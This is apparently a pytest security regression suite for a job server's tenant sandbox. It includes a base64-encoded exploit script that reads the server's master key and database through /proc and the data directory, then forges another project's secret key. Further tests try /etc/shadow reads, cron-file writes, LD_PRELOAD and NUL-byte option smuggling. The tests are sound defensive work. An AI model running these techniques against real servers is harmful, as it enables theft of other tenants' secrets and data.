"""Tenants stay apart on the local executor: a job cannot get at the server's secrets (issue 14).

The attack of the issue, run as a real job of project B through a real `jobtail serve`: find the
server through /proc, read the master key and the database in the data directory, derive the
secret key of project A's admin access key (SK = HMAC(master key, AK)) and read A's log with it.
"""

from __future__ import annotations

import ast
import base64
import json
import os
import re
import signal
import stat
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from support.jobs import PROJECT, PY, TERMINAL, preview, submit, task_pids, wait_for_text, wait_phase
from support.live import LiveServer
from support.serve import clean_env, free_port, jobtail, wait_until_serving

from jobtail.client import Client, Credentials
from jobtail.runner.sandbox import JobPlaces, Sandbox, SandboxUnavailable, environment_args
from jobtail.settings import Settings

EXPLOIT = r'''
import base64, glob, hashlib, hmac, os
target = os.environ
data_dir = target["TARGET_DATA_DIR"]
servers = []
for path in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        argv = open(path, "rb").read().split(b"\0")
    except OSError:
        continue
    if b"jobtail" in argv and b"serve" in argv:
        pid = path.split("/")[2]
        try:
            open(f"/proc/{pid}/environ", "rb").read()
            open(f"/proc/{pid}/maps", "rb").read()
            servers.append(pid)
        except OSError:
            pass
print("server processes:", len(servers), flush=True)
try:
    master = bytes.fromhex(open(os.path.join(data_dir, "master.key")).read().strip())
    print("master key: read", flush=True)
except OSError as exc:
    master = None
    print("master key:", type(exc).__name__, flush=True)
try:  # the file's bytes (SQLite's own locks must not be touched: the server is using it)
    stored = b"".join(open(os.path.join(data_dir, name), "rb").read() for name in ("jobtail.db", "jobtail.db-wal")
                      if name == "jobtail.db" or os.path.exists(os.path.join(data_dir, name)))
    holds = target["TARGET_AK"].encode() in stored
    print("database: read,", "holds" if holds else "lacks", "the access key", flush=True)
except OSError as exc:
    print("database:", type(exc).__name__, flush=True)
if master is None:
    print("preview: no key", flush=True)
else:
    digest = hmac.new(master, b"jobtail-sk:" + target["TARGET_AK"].encode(), hashlib.sha256).digest()
    sk = base64.b32encode(digest[:25]).decode()
    from huaweicloudsdkcore.auth.credentials import BasicCredentials
    from huaweicloudsdkcore.exceptions.exceptions import ClientRequestException
    from huaweicloudsdkmodelarts.v1 import ModelArtsClient, ShowTrainingJobLogsPreviewRequest
    stolen = BasicCredentials(target["TARGET_AK"], sk, target["TARGET_PROJECT"])
    client = ModelArtsClient.new_builder().with_credentials(stolen).with_endpoints([target["TARGET_URL"]]).build()
    try:
        r = client.show_training_job_logs_preview(
            ShowTrainingJobLogsPreviewRequest(training_job_id=target["TARGET_JOB"], task_id="worker-0"))
        print("preview:", 200, repr(r.content), flush=True)
    except ClientRequestException as exc:
        print("preview:", exc.status_code, flush=True)
'''


def exploit_command() -> str:
    """The exploit as a tenant sends it: all in the command, nothing placed on the server."""
    encoded = base64.b64encode(EXPLOIT.encode()).decode()
    return f"{PY} -c 'import base64; exec(base64.b64decode(\"{encoded}\"))'"


@contextmanager
def serving(data_dir: Path, *options: str) -> Iterator[str]:
    """`jobtail serve` with its defaults (SQLite and the master key in `data_dir`); its URL."""
    port = free_port()
    argv = [sys.executable, "-m", "jobtail", "serve", "--data-dir", str(data_dir), "--port", str(port),
            "--log-level", "warning", *options]
    output = data_dir.parent / f"serve-{port}.log"
    with open(output, "wb") as sink:
        server = subprocess.Popen(argv, env=clean_env(), stdout=sink, stderr=sink)
    url = f"http://127.0.0.1:{port}"
    try:
        wait_until_serving(url, server, output=output.read_text)
        yield url
    except Exception as exc:
        raise AssertionError(f"{exc}\n--- the server said:\n{output.read_text()[-6000:]}") from exc
    finally:
        server.send_signal(signal.SIGTERM)
        server.wait(timeout=60)
    assert "Traceback" not in output.read_text(), output.read_text()


def run_job(client: Client, name: str, command: str, environments: dict[str, str] | None = None) -> tuple[str, str]:
    """Submit a one-task job, wait until it ends; (phase, its log)."""
    body = {"kind": "job", "metadata": {"name": name},
            "algorithm": {"command": command, "environments": environments or {}},
            "spec": {"resource": {"node_count": 1}}}
    job_id = client.json("POST", "/v2/{project_id}/training-jobs", json=body)["metadata"]["id"]
    deadline = time.monotonic() + 60
    while (job := client.json("GET", f"/v2/{{project_id}}/training-jobs/{job_id}"))["status"]["phase"] not in TERMINAL:
        assert time.monotonic() < deadline, f"job {name} never ended"
        time.sleep(0.05)
    log = client.json("GET", f"/v2/{{project_id}}/training-jobs/{job_id}/tasks/worker-0/logs/preview")["content"]
    return job["status"]["phase"], log


def attack(data_dir: Path, url: str) -> str:
    """Project A (the first start's default project) has a job whose log holds a secret; a
    developer of a new project B runs the exploit. Returns the log of B's job."""
    admin = json.loads((data_dir / "credentials.json").read_text())
    own = Credentials(admin["access_key"], admin["secret_key"], admin["project_id"], url)
    with Client(url, credentials=own) as victim:
        phase, _ = run_job(victim, "victim", "echo the secret of project A")
        assert phase == "Completed"
        job_id = victim.json("POST", "/v2/{project_id}/training-job-searches", json={})["items"][0]["metadata"]["id"]
    project_b = jobtail("admin", "project", "create", "tenant-b", "--data-dir", str(data_dir)).strip()
    issued = json.loads(jobtail("admin", "credential", "create", "--project", project_b, "--role", "developer",
                                "--json", "--data-dir", str(data_dir)))
    with Client(url, credentials=Credentials(issued["access_key"], issued["secret_key"], project_b, url)) as attacker:
        _, log = run_job(attacker, "exploit", exploit_command(), {
            "TARGET_URL": url, "TARGET_PROJECT": admin["project_id"], "TARGET_AK": admin["access_key"],
            "TARGET_JOB": job_id, "TARGET_DATA_DIR": str(data_dir)})
    return log


def test_a_job_cannot_read_the_server_secrets_nor_sign_as_another_project(tmp_path: Path) -> None:
    data_dir = tmp_path / "data"
    with serving(data_dir) as url:
        log = attack(data_dir, url)
    assert "server processes: 0\n" in log, log
    assert re.search(r"^master key: (FileNotFoundError|PermissionError)$", log, re.M), log
    assert re.search(r"^database: (FileNotFoundError|PermissionError)$", log, re.M), log
    assert "preview: no key\n" in log, log
    assert "the secret of project A" not in log


def test_without_isolation_the_exploit_works_as_the_issue_reports(tmp_path: Path) -> None:
    """`--executor-isolation none` keeps the old behaviour: for one tenant only (README)."""
    data_dir = tmp_path / "data"
    with serving(data_dir, "--executor-isolation", "none") as url:
        log = attack(data_dir, url)
    assert re.search(r"^server processes: [1-9]", log, re.M), log
    assert "master key: read\n" in log and "database: read, holds the access key\n" in log, log
    assert re.search(r"^preview: 200 '.*the secret of project A", log, re.M), log


# -- what a task sees (in-process servers: the data directory lies in a shared directory here) --

SEES = """
    import glob, os, subprocess
    def attempt(what, action):
        try:
            action()
            print(what, "ok", flush=True)
        except OSError as exc:
            print(what, type(exc).__name__, flush=True)
    status = dict(line.split(":", 1) for line in open("/proc/self/status"))
    print("uid", os.getuid(), "caps", status["CapEff"].strip(), flush=True)
    print("pid 1", open("/proc/1/cmdline", "rb").read().split(b"\\0")[3].decode(), flush=True)
    print("processes", len(glob.glob("/proc/[0-9]*")), flush=True)
    print("data dir", sorted(os.listdir(os.environ["DATA_DIR"])), flush=True)
    print("home", sorted(os.listdir(os.environ["HOME"])), flush=True)
    attempt("read master key", lambda: open(os.path.join(os.environ["DATA_DIR"], "master.key")).read())
    attempt("read owner-only file", lambda: open(os.environ["OWNER_ONLY"]).read())
    attempt("read shadow", lambda: open("/etc/shadow").read())
    attempt("write usr", lambda: open("/usr/jobtail-was-here", "w"))
    attempt("write etc", lambda: open("/etc/jobtail-was-here", "w"))
    attempt("write cwd", lambda: open("out.txt", "w").write("written by the task"))
    attempt("write home", lambda: open(os.path.join(os.environ["HOME"], "jobtail-was-here"), "w"))
    unshared = subprocess.run(["unshare", "--user", "true"], stderr=subprocess.DEVNULL)
    print("user namespace", unshared.returncode, flush=True)
    print("cwd", os.getcwd(), flush=True)
"""


def test_a_task_sees_its_job_directory_and_read_only_system_dirs_nothing_of_the_server(
        runner: LiveServer, tmp_path: Path) -> None:
    data_dir = runner.settings.data_dir
    script = tmp_path / "sees.py"
    script.write_text(textwrap.dedent(SEES))
    owner_only = tmp_path / "owner-only"
    owner_only.write_text("mode 600")
    owner_only.chmod(0o600)
    with runner.client() as http:
        # `python3` through PATH: here a pyenv shim under root's home, bound read-only.
        job_id = submit(http, "sees", f"python3 {script}",
                        environments={"DATA_DIR": str(data_dir), "OWNER_ONLY": str(owner_only)})
        job = wait_phase(http, job_id)
        log = preview(http, job_id)
    assert job["status"]["phase"] == "Completed", log
    uid, caps = re.search(r"^uid (\d+) caps (\w+)$", log, re.M).groups()  # type: ignore[union-attr]
    assert int(uid) == os.getuid() and int(caps, 16) == 0  # the server's uid, without a capability
    assert "\npid 1 /run/jobtail/shim.py\n" in log  # a pid namespace of its own: the shim is pid 1
    assert int(re.search(r"^processes (\d+)$", log, re.M).group(1)) <= 4  # type: ignore[union-attr]
    assert "\ndata dir ['work']\n" in log, log  # an empty cover, with the way to its own directory
    home = re.search(r"^home (.*)$", log, re.M).group(1)  # type: ignore[union-attr]
    assert not {".bashrc", ".ssh", ".gitconfig", ".huaweicloud", ".local"} & set(ast.literal_eval(home))  # interpreters
    # A file of the server's user that a task can see, it can read, mode 600 or not (as root: any
    # root-owned file): the mount namespace, not permission bits, keeps the master key away.
    for line in ("read master key FileNotFoundError", "read owner-only file ok", "read shadow PermissionError",
                 "write usr OSError", "write etc OSError", "write cwd ok", "write home ok"):
        assert f"\n{line}\n" in log, line
    assert re.search(r"^user namespace [1-9]", log, re.M)
    job_dir = data_dir / "work" / PROJECT / job_id
    assert f"\ncwd {job_dir}\n" in log
    assert (job_dir / "out.txt").read_text() == "written by the task"
    assert not (Path(os.environ["HOME"]) / "jobtail-was-here").exists()  # its $HOME was its own


def test_a_job_cannot_see_another_jobs_directory(runner: LiveServer) -> None:
    with runner.client() as http:
        first = submit(http, "first", "echo private > notes.txt && pwd")
        assert wait_phase(http, first)["status"]["phase"] == "Completed"
        notes = runner.settings.data_dir / "work" / PROJECT / first / "notes.txt"
        assert notes.read_text() == "private\n"
        second = submit(http, "second", f"cat {notes}; ls {notes.parent.parent}")
        assert wait_phase(http, second)["status"]["phase"] == "Completed"
        log = preview(http, second)
    assert "private" not in log
    assert f"\ncat: {notes}: No such file or directory\n{second}\n" in log  # the project's: only its own


def test_the_ranks_of_a_job_meet_on_master_port(runner: LiveServer, tmp_path: Path) -> None:
    script = tmp_path / "rendezvous.py"
    script.write_text(textwrap.dedent("""
        import os, socket, time
        rank, address = int(os.environ["RANK"]), (os.environ["MASTER_ADDR"], int(os.environ["MASTER_PORT"]))
        open(f"/tmp/rank-{rank}", "w").close()
        if rank == 0:
            with open("/dev/shm/segment", "w") as segment:  # as NCCL's shared-memory transport does
                segment.write("written by rank 0")
            with socket.create_server(address) as server:
                peer, _ = server.accept()
                print("rank 0 got:", peer.recv(100).decode(), flush=True)
                peer.sendall(b"welcome, rank 1")
        else:
            deadline = time.monotonic() + 30
            while True:
                try:
                    peer = socket.create_connection(address)
                    break
                except OSError:
                    assert time.monotonic() < deadline
                    time.sleep(0.05)
            peer.sendall(b"hello from rank 1")
            print("rank 1 got:", peer.recv(100).decode(), flush=True)
            print("rank 1 read:", open("/dev/shm/segment").read(), flush=True)
        print("tmp:", sorted(name for name in os.listdir("/tmp") if name.startswith("rank-")), flush=True)
    """))
    with runner.client() as http:
        job_id = submit(http, "ddp", f"{PY} {script}", workers=2)
        job = wait_phase(http, job_id, timeout=60)
        rank0, rank1 = preview(http, job_id, "worker-0"), preview(http, job_id, "worker-1")
    assert job["status"]["phase"] == "Completed", rank0 + rank1
    assert "\nrank 0 got: hello from rank 1\n" in rank0 and "\nrank 1 got: welcome, rank 1\n" in rank1
    assert "\ntmp: ['rank-0']\n" in rank0 and "\ntmp: ['rank-1']\n" in rank1  # a /tmp of its own each
    assert "\nrank 1 read: written by rank 0\n" in rank1  # one /dev/shm for the job's ranks...
    shm = Sandbox.for_settings(runner.settings).job_shm(job_id)
    assert shm is not None and not shm.exists()  # ...dropped when the job ended


def test_a_working_directory_outside_the_shared_directories_is_refused(runner: LiveServer) -> None:
    with runner.client() as http:
        job_id = submit(http, "escape", "touch /etc/cron.d/owned", working_dir="/etc")
        job = wait_phase(http, job_id)
    [status] = job["status"]["task_statuses"]
    assert (job["status"]["phase"], status["exit_code"]) == ("Failed", 127)
    assert status["message"] == ("Could not start: working directory /etc is not visible to sandboxed jobs; "
                                 "the operator can share it with --executor-shared-dirs.")
    assert not Path("/etc/cron.d/owned").exists()


# -- no sandbox, no executor ----------------------------------------------------------------------

def serve_once(tmp_path: Path, path: str, *options: str) -> subprocess.CompletedProcess[str]:
    """`jobtail serve` with PATH=`path`, expected to refuse to start."""
    env = {**clean_env(), "PATH": path}
    argv = [sys.executable, "-m", "jobtail", "serve", "--data-dir", str(tmp_path / "data"), "--port", "0", *options]
    return subprocess.run(argv, env=env, capture_output=True, text=True, timeout=60)


def test_without_bwrap_the_server_refuses_to_start_in_one_line(tmp_path: Path) -> None:
    done = serve_once(tmp_path, str(tmp_path))  # no bwrap on this PATH
    assert done.returncode == 1
    assert done.stderr == ("Error: jobtail runs jobs sandboxed with bubblewrap, but bwrap is not installed: install "
                           "bubblewrap (Debian/Ubuntu: apt-get install bubblewrap), or pass --executor-isolation none "
                           "to run jobs unsandboxed (one tenant only: a job can then read the master key).\n")


def test_a_bwrap_that_cannot_make_namespaces_is_named_in_the_one_line(tmp_path: Path) -> None:
    fake = tmp_path / "bin" / "bwrap"
    fake.parent.mkdir()
    fake.write_text("#!/bin/sh\necho 'bwrap: setting up uid map: Permission denied' >&2\nexit 1\n")
    fake.chmod(0o755)
    done = serve_once(tmp_path, f"{fake.parent}:/usr/bin:/bin")
    assert done.returncode == 1
    assert done.stderr.startswith("Error: bwrap cannot start a sandbox here (bwrap: setting up uid map: Permission "
                                  "denied): install bubblewrap") and done.stderr.count("\n") == 1


def test_without_bwrap_isolation_none_still_serves(tmp_path: Path) -> None:
    port = free_port()
    env = {**clean_env(), "PATH": str(tmp_path)}
    argv = [sys.executable, "-m", "jobtail", "serve", "--data-dir", str(tmp_path / "data"), "--port", str(port),
            "--executor-isolation", "none", "--log-level", "warning"]
    server = subprocess.Popen(argv, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        wait_until_serving(f"http://127.0.0.1:{port}", server)
    finally:
        server.send_signal(signal.SIGTERM)
        server.wait(timeout=60)


# -- the sandbox's command line ---------------------------------------------------------------------

def test_the_data_directory_is_covered_inside_a_shared_directory_and_cannot_be_shared(tmp_path: Path) -> None:
    data_dir = tmp_path / "data"
    (data_dir / "work").mkdir(parents=True)
    settings = Settings(data_dir=data_dir, executor_shared_dirs=str(tmp_path))
    argv = Sandbox.for_settings(settings).argv(places=JobPlaces(None, None), cwd=tmp_path, command=["true"])
    shared, covered = argv.index("--bind"), argv.index(str(data_dir))
    assert argv[shared + 1] == str(tmp_path) and argv[covered - 1] == "--tmpfs" and shared < covered
    with pytest.raises(SandboxUnavailable, match="a system directory, or inside a directory the server keeps to itself"):
        Sandbox.for_settings(Settings(data_dir=data_dir, executor_shared_dirs=f"{tmp_path}:{data_dir / 'work'}"))


def test_export_roots_are_covered_inside_a_shared_directory(tmp_path: Path) -> None:
    """Every project's exported logs lie there: the server writes them, no task may read them."""
    exports = tmp_path / "shared" / "exports"
    exports.mkdir(parents=True)
    settings = Settings(data_dir=tmp_path / "data", executor_shared_dirs=str(tmp_path / "shared"),
                        export_roots=str(exports))
    argv = Sandbox.for_settings(settings).argv(places=JobPlaces(None, None), cwd=tmp_path, command=["true"])
    covered = argv.index(str(exports))
    assert argv[covered - 1] == "--tmpfs" and argv.index(str(tmp_path / "shared")) < covered


@pytest.mark.parametrize("spelling", ["file:{db}?uri=true", "file://localhost{db}?uri=true",
                                      "file:{db}%23fragment?uri=true"])
def test_the_database_and_blobs_are_covered_however_their_urls_spell_them(tmp_path: Path, spelling: str) -> None:
    """In a shared directory, outside the data directory, named by a SQLite URI filename and a
    percent-encoded file://localhost/ URL: the paths are the ones the backends open, and the
    database's whole directory is covered (a journal planted beside it would be replayed)."""
    shared = tmp_path / "shared"
    blobs = shared / "blob store"
    blobs.mkdir(parents=True)
    database = shared / "meta" / "meta.db"
    database.parent.mkdir()
    database.write_bytes(b"secret")
    settings = Settings(data_dir=tmp_path / "data", executor_shared_dirs=str(shared),
                        database_url=f"sqlite:///{spelling.format(db=database)}",
                        blob_url=f"file://localhost{str(blobs).replace(' ', '%20')}")
    argv = Sandbox.for_settings(settings).argv(places=JobPlaces(None, None), cwd=tmp_path, command=["true"])
    for path in (blobs, database.parent):
        assert argv[argv.index(str(path)) - 1] == "--tmpfs", path
    assert argv.index(str(shared)) < argv.index(str(database.parent))  # the cover lies over the shared dir
    with pytest.raises(SandboxUnavailable, match="keeps to itself"):  # nor may its directory be shared
        Sandbox.for_settings(Settings(data_dir=tmp_path / "data", executor_shared_dirs=str(database.parent),
                                      database_url=settings.database_url))


def test_bwrap_runs_on_the_host_without_the_job_s_environment(runner: LiveServer) -> None:
    """bwrap itself runs outside the sandbox, as the server's user: a job's LD_PRELOAD must not
    reach it, and its variables (tokens) must not show in a command line every host user reads."""
    secret = "wandb-token-0123456789"
    with runner.client() as http:
        job_id = submit(http, "env", "echo $API_TOKEN; sleep 60",
                        environments={"API_TOKEN": secret, "LD_PRELOAD": "/nonexistent/preload.so"})
        wait_for_text(http, job_id, secret)
        record = json.loads((runner.settings.data_dir / "runner" / f"{job_id}.json").read_text())
        [bwrap] = record["sessions"].values()
        with open(f"/proc/{bwrap}/cmdline", "rb") as f:
            cmdline = f.read()
        with open(f"/proc/{bwrap}/environ", "rb") as f:
            environ = f.read().split(b"\0")
        shims = task_pids(job_id) - {bwrap}
        http.post(f"/v2/{PROJECT}/training-jobs/{job_id}/actions", json={"action_type": "terminate"})
        wait_phase(http, job_id)
    assert b"bwrap" in cmdline and secret.encode() not in cmdline
    assert not [e for e in environ if e.startswith((b"LD_PRELOAD=", b"API_TOKEN="))]
    assert f"JOBTAIL_JOB_ID={job_id}".encode() in environ  # marked, for recovery
    assert shims  # the shim and the task: they have the job's environment


def test_a_job_s_shared_memory_is_never_a_directory_someone_else_put_there(tmp_path: Path) -> None:
    sandbox = Sandbox.for_settings(Settings(data_dir=tmp_path / "data"))
    assert sandbox.shm_root is not None
    sandbox.sweep_shm()
    try:
        sandbox.shm_root.symlink_to(tmp_path)  # planted by another user of the host, say
        with pytest.raises(PermissionError, match="not a private directory"):
            sandbox.places("p", "j", own_dir=False)
        sandbox.shm_root.unlink()
        places = sandbox.places("p", "j", own_dir=False)
        assert places.shm is not None and stat.S_IMODE(sandbox.shm_root.stat().st_mode) == 0o700
    finally:
        if sandbox.shm_root.is_symlink():
            sandbox.shm_root.unlink()
        sandbox.sweep_shm()


def test_a_nul_in_the_environment_cannot_smuggle_in_bwrap_options() -> None:
    assert environment_args({"A": "1"}) == b"--clearenv\0--setenv\0A\0" + b"1\0"
    with pytest.raises(ValueError, match="embedded null byte"):
        environment_args({"A": "x\0--bind\0/\0/"})
